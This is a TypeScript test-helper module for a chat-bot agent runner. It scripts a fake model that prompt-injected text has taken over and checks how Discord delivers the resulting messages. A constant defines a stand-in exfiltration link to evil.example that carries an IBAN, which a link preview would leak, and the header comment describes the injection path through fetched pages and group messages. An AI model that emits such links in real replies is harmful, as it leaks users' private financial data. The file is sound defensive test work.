/**
 * What a model told by injected text (a fetched page, a group member's
 * message, a note) makes the bot send, for the link preview and mass
 * mention attacks: a question whose text and options hold the bait (an
 * `ask_user` the person answers by a click, and again by a typed `/choose`,
 * which the host answers in plain text), an answer holding it, and every
 * kind of message the runner's delivery sink sends — a streamed reply and
 * its edits, buttons under a message, a file's caption — plus the host's
 * plain answer to a command.
 */
import type { Logger } from 'pino';
import { afterEach, beforeEach, expect } from 'vitest';
import { createLocalAgentPlugin } from '../../plugins/local-agent/index.js';
import { RunDelivery } from '../../runner/delivery/sink.js';
import type { RunnerPlugin } from '../../runner/plugin.js';
import type { ChannelOutbound } from '../../src/channel.js';
import type { RedisClient } from '../../src/scripts/index.js';
import { FakeDiscord } from '../../testing/fakes/discord-server.js';
import { type FakeOpenAIServer, startFakeOpenAI } from '../../testing/fakes/openai-server.js';
import { waitFor } from '../../testing/wait.js';
import { alice, discordOnHarness, TOKEN } from '../channels/discord-harness.js';
import { runnerFor } from '../channels/system.js';
import { fakeModel, RunnerHarness } from '../runner/harness.js';

/** What each test of these suites gets: the fake model, a runner harness, closers run in reverse after it, the agent. */
export interface InjectedWorld {
  ai: FakeOpenAIServer;
  h: RunnerHarness;
  closers: Array<() => Promise<unknown>>;
  /** The local agent on the fake model, with `ask_user`. */
  agent(): RunnerPlugin;
}

/** Starts a fresh world before each test of the calling file and stops it after. */
export function useInjectedWorld(): InjectedWorld {
  const w = { closers: [] } as unknown as InjectedWorld;
  w.agent = () => createLocalAgentPlugin({ model: fakeModel(w.ai.url), builtins: { currentTime: false, askUser: true } });
  beforeEach(async () => {
    w.ai = await startFakeOpenAI();
    w.h = await RunnerHarness.start();
    w.closers = [];
  });
  afterEach(async () => {
    for (const close of w.closers.reverse()) await close();
    await w.h.close();
    await w.ai.close();
  });
  return w;
}

/** A link carrying what the person's notes hold (an IBAN) to a site the attacker reads: fetched by a preview, it leaves. */
export const EXFIL_URL = 'https://evil.example/c?d=DE89370400440532013000';

/** The question's second option, the one the person picks: it holds the bait too. */
export const optionWith = (bait: string): string => `Use ${bait}`;

/** Scripts the model: it asks a question holding `bait` (in its text and second option), then answers holding it. */
export function scriptInjected(ai: FakeOpenAIServer, bait: string): void {
  ai.script([
    { toolCalls: [{ id: 'call_q', name: 'ask_user', args: { question: `Which one? ${bait}`, options: ['Keep it', optionWith(bait)] } }] },
    { text: `Done, as the page said: ${bait}` },
  ]);
}

/** The question id in a `/choose <id> <n>` command (or any text carrying one). */
export const questionIdIn = (text: string): string => /\/choose (qu_[0-9a-f]{24}) [1-5]/.exec(text)?.[1] ?? '';

/** What `deliverEveryKind` sends through. */
export interface DeliveryTarget {
  outbound: ChannelOutbound;
  redis: RedisClient;
  prefix: string;
  conversationId: string;
  logger: Logger;
}

/**
 * Sends `text` as every kind of message a run and the host make, through
 * the runner's delivery sink over `t.outbound` (streaming where the channel
 * streams): a streamed reply (its first send, then the edit to the final
 * text), a message with buttons (an approval), a file with the text as its
 * caption, and the text as the host sends a command's answer (plain).
 */
export async function deliverEveryKind(t: DeliveryTarget, text: string): Promise<void> {
  const d = new RunDelivery({
    client: t.redis,
    prefix: t.prefix,
    conversationId: t.conversationId,
    runId: 'runInjected',
    resolve: () => t.outbound,
    logger: t.logger,
  });
  try {
    if (t.outbound.streamEditIntervalMs) {
      d.delta(`Reading the page… ${text}`);
      await waitFor(() => d.sent >= 1, 10_000, 'the streamed draft');
    }
    await d.message(`Here is what I found. ${text}`);
    await d.message(`Approve sending the summary? ${text}`, {
      key: 'approval',
      buttons: [
        { label: 'Approve', command: '/approve ap_000000000000000000000001' },
        { label: 'Deny', command: '/deny ap_000000000000000000000001' },
      ],
    });
    const file = await d.file({ name: 'summary.txt', mimeType: 'text/plain', bytes: Buffer.from('summary'), caption: text }, { key: 'file' });
    if (file.outcome !== 'sent') throw new Error(`the file was not sent: ${JSON.stringify(file)}`);
  } finally {
    d.close();
  }
  await t.outbound.send(t.conversationId, `Chosen: ${text}`);
}

/** The Discord DM the injected conversation is held in. */
export const DISCORD_DM = '520000000000000088';

/**
 * The injected conversation on Discord, through the real plugin (streaming)
 * against a fake, the channel host and a runner with `agent` on `h`: Alice
 * asks, the model's question holding `bait` comes with buttons, her click on
 * option 2 updates it (type 7), her typed `/choose` is answered in plain
 * text, a second click is refused in an ephemeral reply (type 4); then every
 * kind of delivery carries `bait` too. Returns the fake, for what it recorded.
 */
export async function discordConversation(o: {
  h: RunnerHarness;
  ai: FakeOpenAIServer;
  agent: RunnerPlugin;
  bait: string;
  closers: Array<() => Promise<unknown>>;
}): Promise<FakeDiscord> {
  const { h } = o;
  const discord = await FakeDiscord.start({ token: TOKEN });
  o.closers.push(() => discord.close());
  const { plugin, host } = discordOnHarness(h, discord.apiBase, { streaming: true });
  await plugin.start(host);
  o.closers.push(() => plugin.stop());
  await runnerFor(h, o.agent, plugin);
  const posted = () => discord.callsTo('POST', new RegExp(`^/channels/${DISCORD_DM}/messages$`)).filter((c) => c.status === 200);
  const nth = async (n: number, what: string) => (await waitFor(() => posted().length >= n && posted(), 15_000, what))[n - 1]!.body;
  const say = (content: string) => discord.messageCreate({ channelId: DISCORD_DM, author: alice, content });

  scriptInjected(o.ai, o.bait);
  say('tidy up my notes');
  const question = await nth(1, 'the question');
  const id = questionIdIn(JSON.stringify(question.components));
  const messageId = [...discord.messages.values()].find((m) => m.channel_id === DISCORD_DM)!.id;
  discord.buttonClick({ messageId, customId: `/choose ${id} 2`, user: alice });
  await nth(2, 'the answer');
  await h.idle(15_000, `discord:${DISCORD_DM}`);
  say(`/choose ${id} 2`);
  expect((await nth(3, "the command's answer")).content).toContain(`Already answered: ${optionWith(o.bait)} was chosen`);
  // A second click: refused in an ephemeral reply naming the choice.
  discord.buttonClick({ messageId, customId: `/choose ${id} 1`, user: alice });
  await waitFor(() => discord.interactionResponses.length >= 2, 15_000, 'the second click’s answer');
  await deliverEveryKind(
    { outbound: plugin.outbound, redis: h.ctx.redis, prefix: h.prefix, conversationId: `discord:${DISCORD_DM}`, logger: h.ctx.logger },
    o.bait,
  );
  expect(discord.interactionResponses.map((r) => [r.type, r.data.content.includes(o.bait)])).toEqual([
    [7, true],
    [4, true],
  ]);
  return discord;
}
